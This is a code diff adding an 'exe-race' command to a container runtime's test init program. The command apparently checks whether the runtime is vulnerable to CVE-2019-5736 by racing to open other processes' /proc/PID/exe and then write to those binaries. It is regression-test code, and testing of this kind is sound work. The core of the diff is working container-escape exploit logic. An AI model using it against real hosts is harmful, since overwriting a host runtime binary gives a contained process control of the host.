@@ -4,6 +4,8 @@
  *            | write PATH TEXT | syscall mount|unshare|keyctl */
 #define _GNU_SOURCE
 #include <dirent.h>
+#include <fcntl.h>
+#include <time.h>
 #include <errno.h>
 #include <sched.h>
 #include <signal.h>
@@ -26,6 +28,47 @@ static int status_field(const char *key) {
     }
   fclose(f);
   return 1;
+}
+
+// CVE-2019-5736 attacker: for SECONDS, open /proc/PID/exe of every other process that shows up
+// (berth's exec children among them) and keep what is not the container's own binaries; then,
+// once those processes are gone, try to write each kept file. Prints "seen NAME" for each, and
+// "WROTE NAME" when a write succeeded (the attack worked).
+static int exe_race(int seconds) {
+  int kept[256], n = 0;
+  char names[256][128];
+  time_t end = time(NULL) + seconds;
+  int self = getpid();
+  while (time(NULL) < end && n < 256) {
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    while (d && (e = readdir(d)) && n < 256) {
+      int pid = atoi(e->d_name);
+      if (pid <= 1 || pid == self) continue;
+      char path[64], target[128] = "";
+      snprintf(path, sizeof path, "/proc/%d/exe", pid);
+      int fd = open(path, O_RDONLY | O_CLOEXEC);
+      if (fd < 0) continue;
+      snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+      ssize_t len = readlink(path, target, sizeof target - 1);
+      target[len > 0 ? len : 0] = 0;
+      if (strstr(target, "busybox") || strstr(target, "testinit")) { close(fd); continue; }
+      kept[n] = fd;
+      snprintf(names[n], sizeof names[n], "%s", target);
+      n++;
+      printf("seen %s\n", target);
+    }
+    if (d) closedir(d);
+  }
+  sleep(1);
+  for (int i = 0; i < n; i++) {
+    char path[64];
+    snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
+    int w = open(path, O_WRONLY | O_APPEND);
+    if (w >= 0 && write(w, "x", 1) == 1) printf("WROTE %s\n", names[i]);
+  }
+  fflush(stdout);
+  return 0;
 }
 
 int main(int argc, char **argv) {
@@ -79,6 +122,7 @@ int main(int argc, char **argv) {
     printf("%s\n", r == 0 ? "allowed" : strerror(errno));
     return 0;
   }
+  if (strcmp(cmd, "exe-race") == 0 && argc > 2) return exe_race(atoi(argv[2]));
   fprintf(stderr, "testinit: unknown command %s\n", cmd);
   return 2;
 }
